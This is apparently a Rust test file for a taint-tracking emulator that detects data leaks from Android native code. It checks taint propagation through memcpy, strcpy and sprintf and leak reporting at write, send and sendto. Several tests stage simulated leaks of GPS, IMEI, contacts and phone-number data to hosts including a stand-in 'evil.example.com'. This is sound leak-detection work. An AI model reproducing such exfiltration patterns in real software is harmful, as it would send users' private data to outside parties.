//! Direct unit tests of the Table VI taint-propagation models and the
//! Table VII starred source/sink entries, calling the host functions
//! at the `NativeCtx` level (no guest assembly) so every assertion is
//! about the model itself: byte-granular taint transfer for
//! `memcpy`/`strcpy`/`sprintf` (§V-D, Listing 3) and leak reporting on
//! `write*`/`send*` (Fig. 7/8).

use ndroid_dvm::{Program, Taint};
use ndroid_emu::layout;
use ndroid_emu::runtime::HostTable;
use ndroid_emu::testutil::{TrackOnly, World};
use ndroid_libc::registry::Body;
use ndroid_libc::{string_fns, syscalls};

/// A native-tracking world with no host table: each test calls the
/// models directly.
fn world() -> World<TrackOnly> {
    World::new(Program::new(), HostTable::new(), TrackOnly)
}

/// Calls host model `f` with register arguments: R0. Register shadow
/// taints persist across calls, so a test can pre-taint an argument.
/// The body is bound to no row's name: these tests read taint, and the
/// world records no provenance.
fn call(w: &mut World<TrackOnly>, f: Body, args: &[u32]) -> u32 {
    w.call_host(|c| f(c, "direct"), args).expect("host fn")
}

const BUF_A: u32 = 0x2000_0000;
const BUF_B: u32 = 0x2000_1000;
const BUF_C: u32 = 0x2000_2000;

// ---------------------------------------------------------------- Table VI

#[test]
fn memcpy_taint_is_byte_granular() {
    let mut w = world();
    w.mem.write_bytes(BUF_A, b"0123456789abcdef");
    // Only bytes [5, 9) of the source carry taint.
    w.shadow.mem.set_range(BUF_A + 5, 4, Taint::IMEI);
    call(&mut w, string_fns::memcpy, &[BUF_B, BUF_A, 16]);
    assert_eq!(w.mem.read_bytes(BUF_B, 16), b"0123456789abcdef");
    for i in 0..16u32 {
        let expect = if (5..9).contains(&i) {
            Taint::IMEI
        } else {
            Taint::CLEAR
        };
        assert_eq!(w.shadow.mem.get(BUF_B + i), expect, "dest byte {i}");
    }
}

#[test]
fn memcpy_overwrites_stale_destination_taint() {
    let mut w = world();
    w.mem.write_bytes(BUF_A, &[0u8; 16]);
    w.shadow.mem.set_range(BUF_B, 16, Taint::SMS);
    call(&mut w, string_fns::memcpy, &[BUF_B, BUF_A, 16]);
    // Listing 3's per-byte transfer replaces, not unions: clean source
    // bytes scrub the old destination taint.
    assert_eq!(w.shadow.mem.range_taint(BUF_B, 16), Taint::CLEAR);
}

#[test]
fn memmove_overlap_keeps_byte_taint_aligned() {
    let mut w = world();
    w.mem.write_bytes(BUF_A, b"XYZW....");
    w.shadow.mem.set(BUF_A, Taint::IMEI); // only 'X'
    call(&mut w, string_fns::memcpy, &[BUF_A + 2, BUF_A, 4]); // bound as memmove
    assert_eq!(w.mem.read_bytes(BUF_A, 8), b"XYXYZW..");
    assert_eq!(w.shadow.mem.get(BUF_A + 2), Taint::IMEI, "'X' moved to +2");
    assert_eq!(w.shadow.mem.get(BUF_A + 3), Taint::CLEAR);
    assert_eq!(w.shadow.mem.get(BUF_A + 4), Taint::CLEAR);
}

#[test]
fn memset_sets_fill_value_taint() {
    let mut w = world();
    w.shadow.mem.set_range(BUF_B, 8, Taint::SMS);
    // Clean fill byte scrubs the range…
    call(&mut w, string_fns::memset, &[BUF_B, 0, 8]);
    assert_eq!(w.shadow.mem.range_taint(BUF_B, 8), Taint::CLEAR);
    // …while a tainted fill value (register shadow on `c`) taints it.
    w.shadow.regs[1] = Taint::IMEI;
    call(&mut w, string_fns::memset, &[BUF_B, b'A' as u32, 8]);
    w.shadow.regs[1] = Taint::CLEAR;
    assert_eq!(w.mem.read_bytes(BUF_B, 8), b"AAAAAAAA");
    assert_eq!(w.shadow.mem.range_taint(BUF_B, 8), Taint::IMEI);
}

#[test]
fn strcpy_copies_per_byte_taint_and_clears_terminator() {
    let mut w = world();
    w.mem.write_cstr(BUF_A, b"AB12");
    // Only the digits are tainted; the NUL terminator is clean.
    w.shadow.mem.set_range(BUF_A + 2, 2, Taint::CONTACTS);
    // Stale destination taint beyond the string must be replaced.
    w.shadow.mem.set_range(BUF_B, 5, Taint::SMS);
    let r = call(&mut w, string_fns::strcpy, &[BUF_B, BUF_A]);
    assert_eq!(r, BUF_B, "strcpy returns dest");
    assert_eq!(w.mem.read_cstr(BUF_B), b"AB12");
    assert_eq!(w.shadow.mem.range_taint(BUF_B, 2), Taint::CLEAR, "'AB'");
    assert_eq!(w.shadow.mem.get(BUF_B + 2), Taint::CONTACTS, "'1'");
    assert_eq!(w.shadow.mem.get(BUF_B + 3), Taint::CONTACTS, "'2'");
    assert_eq!(w.shadow.mem.get(BUF_B + 4), Taint::CLEAR, "terminator");
}

#[test]
fn strncpy_pads_and_clears_tail_taint() {
    let mut w = world();
    w.mem.write_cstr(BUF_A, b"ab");
    w.shadow.mem.set_range(BUF_A, 2, Taint::IMEI);
    w.shadow.mem.set_range(BUF_B, 8, Taint::SMS);
    call(&mut w, string_fns::strncpy, &[BUF_B, BUF_A, 8]);
    assert_eq!(w.mem.read_bytes(BUF_B, 8), b"ab\0\0\0\0\0\0");
    assert_eq!(w.shadow.mem.range_taint(BUF_B, 2), Taint::IMEI);
    assert_eq!(w.shadow.mem.range_taint(BUF_B + 2, 6), Taint::CLEAR, "pad");
}

#[test]
fn sprintf_taints_only_the_tainted_expansions() {
    let mut w = world();
    // sprintf(dst, "id=%s&n=%d", imei_str, count) — the IMEI string is
    // memory-tainted, the integer carries register taint.
    w.mem.write_cstr(BUF_A, b"id=%s&n=%d");
    w.mem.write_cstr(BUF_B, b"35693");
    w.shadow.mem.set_range(BUF_B, 5, Taint::IMEI);
    w.shadow.regs[3] = Taint::SMS;
    call(
        &mut w,
        ndroid_libc::stdio::sprintf,
        &[BUF_C, BUF_A, BUF_B, 42],
    );
    w.shadow.regs[3] = Taint::CLEAR;
    assert_eq!(w.mem.read_cstr(BUF_C), b"id=35693&n=42");
    // "id=" literal: clean.
    assert_eq!(w.shadow.mem.range_taint(BUF_C, 3), Taint::CLEAR);
    // "35693" expansion: IMEI, byte for byte.
    for i in 3..8u32 {
        assert_eq!(w.shadow.mem.get(BUF_C + i), Taint::IMEI, "byte {i}");
    }
    // "&n=" literal: clean.
    assert_eq!(w.shadow.mem.range_taint(BUF_C + 8, 3), Taint::CLEAR);
    // "42" from the register-tainted %d.
    assert_eq!(w.shadow.mem.range_taint(BUF_C + 11, 2), Taint::SMS);
    // Terminator clean.
    assert_eq!(w.shadow.mem.get(BUF_C + 13), Taint::CLEAR);
}

// --------------------------------------------------- Table VII (starred)

#[test]
fn write_of_tainted_bytes_to_file_is_a_leak() {
    let mut w = world();
    w.mem.write_cstr(BUF_A, b"/data/out.bin");
    let fd = call(&mut w, syscalls::open, &[BUF_A, 0o102]); // O_RDWR|O_CREAT
    w.mem.write_bytes(BUF_B, b"imei:35693");
    w.shadow.mem.set_range(BUF_B + 5, 5, Taint::IMEI);
    let n = call(&mut w, syscalls::write, &[fd, BUF_B, 10]);
    assert_eq!(n, 10);
    let leaks: Vec<_> = w.shadow.prov.leaks().collect();
    assert_eq!(leaks.len(), 1, "write* is a starred sink");
    assert_eq!(leaks[0].sink, "write");
    assert_eq!(leaks[0].dest, "/data/out.bin");
    assert_eq!(*leaks[0].data, *b"imei:35693");
    assert_eq!(leaks[0].taint, Taint::IMEI);
    assert_eq!(w.kernel.fs["/data/out.bin"], b"imei:35693");
}

#[test]
fn write_of_clean_bytes_is_an_event_but_not_a_leak() {
    let mut w = world();
    w.mem.write_cstr(BUF_A, b"/data/log.txt");
    let fd = call(&mut w, syscalls::open, &[BUF_A, 0o102]);
    w.mem.write_bytes(BUF_B, b"boring");
    call(&mut w, syscalls::write, &[fd, BUF_B, 6]);
    assert_eq!(w.shadow.prov.sinks().len(), 1, "the sink call is observed");
    assert_eq!(w.shadow.prov.leaks().count(), 0, "clean data is no leak");
}

#[test]
fn send_of_tainted_bytes_reports_connected_peer() {
    let mut w = world();
    let fd = call(&mut w, syscalls::socket, &[]);
    w.mem.write_cstr(BUF_A, b"evil.example.com");
    call(&mut w, syscalls::connect, &[fd, BUF_A]);
    w.mem.write_bytes(BUF_B, b"gps=22.33,114.18");
    w.shadow.mem.set_range(BUF_B + 4, 12, Taint::LOCATION_GPS);
    let n = call(&mut w, syscalls::send, &[fd, BUF_B, 16, 0]);
    assert_eq!(n, 16);
    let leaks: Vec<_> = w.shadow.prov.leaks().collect();
    assert_eq!(leaks.len(), 1, "send* is a starred sink");
    assert_eq!(leaks[0].sink, "send");
    assert_eq!(leaks[0].dest, "evil.example.com");
    assert_eq!(leaks[0].taint, Taint::LOCATION_GPS);
    assert_eq!(*leaks[0].data, *b"gps=22.33,114.18");
    assert_eq!(w.shadow.prov.sinks().len(), 1, "one record per sink call");
}

#[test]
fn send_keeps_the_exact_bytes_sent() {
    let mut w = world();
    let fd = call(&mut w, syscalls::socket, &[]);
    w.mem.write_cstr(BUF_A, b"evil.example.com");
    call(&mut w, syscalls::connect, &[fd, BUF_A]);
    w.mem.write_bytes(BUF_B, &[0xFF, 0x00, 0x80]);
    assert_eq!(call(&mut w, syscalls::send, &[fd, BUF_B, 3, 0]), 3);
    assert_eq!(w.shadow.prov.sinks().len(), 1);
    assert_eq!(*w.shadow.prov.sinks()[0].data, [0xFF, 0x00, 0x80], "not UTF-8, kept as sent");
}

#[test]
fn write_on_a_socket_reports_as_send_sink() {
    let mut w = world();
    let fd = call(&mut w, syscalls::socket, &[]);
    w.mem.write_cstr(BUF_A, b"sync.3g.qq.com");
    call(&mut w, syscalls::connect, &[fd, BUF_A]);
    w.mem.write_bytes(BUF_B, b"sid=ab");
    w.shadow.mem.set_range(BUF_B + 4, 2, Taint::CONTACTS);
    call(&mut w, syscalls::write, &[fd, BUF_B, 6]);
    let leaks: Vec<_> = w.shadow.prov.leaks().collect();
    assert_eq!(leaks.len(), 1);
    assert_eq!(leaks[0].sink, "send", "write on a socket is the send sink");
    assert_eq!(leaks[0].dest, "sync.3g.qq.com");
}

#[test]
fn sendto_carries_destination_in_the_call() {
    let mut w = world();
    let fd = call(&mut w, syscalls::socket, &[]);
    w.mem.write_cstr(BUF_A, b"softphone.comwave.net");
    w.mem.write_bytes(BUF_B, b"REGISTER sip:4804001849");
    w.shadow.mem.set_range(BUF_B + 13, 10, Taint::PHONE_NUMBER);
    // sendto's sockaddr rides in arg 4 (stack); push it manually.
    let sp = layout::NATIVE_STACK_TOP - 8;
    w.cpu.regs[13] = sp;
    w.mem.write_u32(sp, BUF_A);
    w.mem.write_u32(sp + 4, 0);
    let n = call(&mut w, syscalls::sendto, &[fd, BUF_B, 23, 0]);
    assert_eq!(n, 23);
    let leaks: Vec<_> = w.shadow.prov.leaks().collect();
    assert_eq!(leaks.len(), 1, "sendto* is a starred sink");
    assert_eq!(leaks[0].sink, "sendto");
    assert_eq!(leaks[0].dest, "softphone.comwave.net");
    assert_eq!(leaks[0].taint, Taint::PHONE_NUMBER);
}

#[test]
fn read_is_a_clean_source_that_scrubs_stale_taint() {
    let mut w = world();
    w.mem.write_cstr(BUF_A, b"/data/in.bin");
    let fd = call(&mut w, syscalls::open, &[BUF_A, 0o102]);
    w.mem.write_bytes(BUF_B, b"payload!");
    call(&mut w, syscalls::write, &[fd, BUF_B, 8]);
    call(&mut w, syscalls::close, &[fd]);
    // Re-open and read into a buffer carrying stale taint.
    let fd = call(&mut w, syscalls::open, &[BUF_A, 0]);
    w.shadow.mem.set_range(BUF_C, 8, Taint::SMS);
    let n = call(&mut w, syscalls::read, &[fd, BUF_C, 8]);
    assert_eq!(n, 8);
    assert_eq!(w.mem.read_bytes(BUF_C, 8), b"payload!");
    assert_eq!(
        w.shadow.mem.range_taint(BUF_C, 8),
        Taint::CLEAR,
        "read(2) output reflects the file, not the old buffer taint"
    );
}
